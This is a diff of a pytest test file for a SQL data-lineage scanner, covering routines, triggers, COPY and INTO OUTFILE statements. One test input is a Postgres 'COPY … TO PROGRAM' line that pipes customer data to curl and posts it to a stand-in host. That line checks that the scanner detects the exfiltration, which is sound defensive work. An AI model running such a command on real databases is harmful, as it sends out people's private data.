@@ -8,7 +8,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from scanner.sql.lineage import Carried, carried
+from scanner.sql.lineage import carried
+from scanner.sql.moves import Carried
 from scanner.sql.statements import trigger_of
 
 TABLES = {"customers": ("id", "email", "name", "phone"), "orders": ("id", "customer_id", "total")}
@@ -140,3 +141,50 @@ def test_no_literal_leaves_and_nothing_is_logged(caplog: pytest.LogCaptureFixtur
 def test_any_text_is_read_without_an_error(sql: str) -> None:
     for dialect in ("postgres", "mysql"):
         assert isinstance(carried(sql, dialect, TABLES), tuple)
+
+
+SCHEMAS = {"public.customers": ("id", "email", "name"), "mart.contacts": ("mail", "who")}
+ROUTINES = {
+    "plpgsql": "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $function$\nDECLARE x int;\nBEGIN\n"
+    "INSERT INTO mart.contacts (mail) SELECT email FROM customers WHERE name = 'SECRETWORD';\nPERFORM 1;\nEND\n$function$",
+    "sql": "CREATE PROCEDURE p() LANGUAGE sql AS $$ INSERT INTO mart.contacts SELECT email FROM Customers; SELECT 1 $$",
+    "atomic": "CREATE PROCEDURE p() BEGIN ATOMIC INSERT INTO mart.contacts (mail) SELECT email FROM customers; END",
+}
+
+
+@pytest.mark.parametrize("kind", sorted(ROUTINES))
+def test_routines_of_every_form_with_their_default_schema(kind: str) -> None:
+    found = carried(ROUTINES[kind], "postgres", SCHEMAS, schema="public")
+    assert [(c.origin, c.target) for c in found] == [
+        (("public.customers",), ("mart.contacts",)),
+        (("public.customers", "email"), ("mart.contacts", "mail")),
+    ]
+    assert "SECRETWORD" not in repr(found)
+
+
+def test_a_trigger_writes_what_stands_in_its_row() -> None:
+    body = "BEGIN INSERT INTO audit (at, mail) VALUES (now(), md5(NEW.email)); RETURN NEW; END"
+    found = carried(body, "postgres", SCHEMAS, schema="public", body=True)
+    assert Carried(("NEW", "email"), ("public.audit", "mail"), "INSERT … VALUES", "hashed") in found
+    whole = carried("INSERT INTO audit (row) VALUES (to_jsonb(OLD))", "postgres", SCHEMAS, schema="public", body=True)
+    assert whole == (Carried(("OLD",), ("public.audit",), "INSERT … VALUES"),)
+
+
+def test_a_variable_in_a_body_is_no_table() -> None:
+    assert carried("BEGIN SELECT email INTO found FROM customers; END", "postgres", SCHEMAS, body=True) == ()
+
+
+@pytest.mark.parametrize(
+    ("sql", "dialect", "path"),
+    [
+        ("COPY customers TO '/srv/out/x.csv' CSV", "postgres", "/srv/out/x.csv"),
+        ("COPY customers TO STDOUT", "postgres", ""),
+        ("COPY customers TO PROGRAM 'curl -d SECRETWORD https://x.example'", "postgres", ""),
+        ("SELECT email FROM customers INTO OUTFILE '/srv/out/x.csv'", "mysql", "/srv/out/x.csv"),
+        ("SELECT email FROM customers INTO OUTFILE ?", "mysql", ""),
+    ],
+)
+def test_the_file_that_is_written_is_named(sql: str, dialect: str, path: str) -> None:
+    found = carried(sql, dialect, TABLES)
+    assert found and {c.path for c in found} == {path}
+    assert "SECRETWORD" not in repr(found)
